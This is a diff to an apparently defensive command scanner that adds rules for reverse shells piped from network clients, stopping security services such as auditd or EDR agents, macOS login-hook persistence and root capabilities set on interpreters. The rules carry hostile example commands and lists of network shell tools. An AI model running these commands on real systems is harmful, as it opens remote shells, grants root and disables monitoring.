@@ -908,6 +908,9 @@ def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
         wired = _dev_net(cmd)
         if wired is not None:
             return wired
+    if cmd.name in SHELLS and (client := next((n for n in cmd.pipe_before if n in _NET_CLIENTS), None)):
+        # `nc host 4444 | sh`, `openssl s_client -connect h:443 | bash`: the host types the commands
+        return f"its commands come from {client}"
     if cmd.name in SHELLS and "i" in cmd.flags:
         # an interactive shell reading a descriptor other than the terminal's (zsh's ztcp leaves
         # the socket's in $REPLY): its commands come from whatever holds that descriptor
@@ -915,6 +918,9 @@ def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
         if fed is not None:
             return f"its input is descriptor {fed}"
     return None
+
+
+_NET_CLIENTS = frozenset("nc ncat netcat nc.traditional nc.openbsd socat telnet openssl cryptcat pwncat".split())
 
 
 def _dev_net(cmd: Cmd) -> str | None:
@@ -1308,7 +1314,49 @@ def security_off(cmd: Cmd, ctx: Ctx) -> str | None:
         return "auditctl -e 0: the audit log stops"
     if cmd.name == "defaults" and cmd.args[:1] == ["write"] and _MAC_PROTECTIONS_OFF.search(" ".join(cmd.args)):
         return " ".join(cmd.args[1:3]) + " off"
+    if cmd.name in ("systemctl", "service") and {"stop", "disable", "mask", "kill"} & set(cmd.operands):
+        guards = [o for o in cmd.operands if _GUARD_SERVICES.match(o)]
+        return "the security service " + ", ".join(guards) if guards else None
     return None
+
+
+# services that watch or protect the machine: audit logs, endpoint agents, mandatory access control,
+# intrusion bans, virus scanners
+_GUARD_SERVICES = re.compile(
+    r"^(?:auditd|apparmor|selinux\w*|falcon-sensor|crowdstrike\w*|osqueryd|wazuh-agent|ossec\w*|"
+    r"clamav-\w+|clamd\w*|fail2ban|sentinelone\w*|mdatp|elastic-agent|aide\w*|tripwire)(?:\.service)?$"
+)
+
+
+@rule(
+    "persistence",
+    CRITICAL,
+    "makes {} run as root at every login or logout",
+    examples=("sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh",),
+    counterexamples=("defaults read com.apple.loginwindow", "defaults delete com.apple.loginwindow LoginHook"),
+)
+def login_hook(cmd: Cmd, ctx: Ctx) -> str | None:
+    a = cmd.args
+    hook = cmd.name == "defaults" and a[:1] == ["write"] and len(a) >= 4 and a[2] in ("LoginHook", "LogoutHook")
+    return a[3] if hook else None
+
+
+@rule(
+    "privilege",
+    CRITICAL,
+    "gives {} a root capability: whoever runs it can become root",
+    examples=("setcap cap_setuid+ep /usr/bin/python3.11", "sudo setcap cap_dac_override=eip /bin/bash"),
+    counterexamples=("setcap cap_net_bind_service=+ep ./server", "getcap /usr/bin/ping"),
+)
+def root_capability(cmd: Cmd, ctx: Ctx) -> str | None:
+    """A capability that is root in all but name (setuid, reading or writing any file, admin), on a
+    program that runs whatever it is told: an interpreter or a shell."""
+    if cmd.name != "setcap" or len(cmd.operands) < 2:
+        return None
+    caps, target = cmd.operands[0].lower(), cmd.operands[-1]
+    root_like = re.search(r"cap_(?:setuid|setgid|dac_override|dac_read_search|sys_admin|sys_ptrace|chown|fowner)", caps)
+    runs_anything = SHELL_BINARIES.match(target) or re.search(r"/(?:python|perl|ruby|node|php|lua|gdb)[\d.]*$", target)
+    return target if root_like and runs_anything else None
 
 
 # macOS settings that, set to false or 0, unlock the screen without a password or stop marking
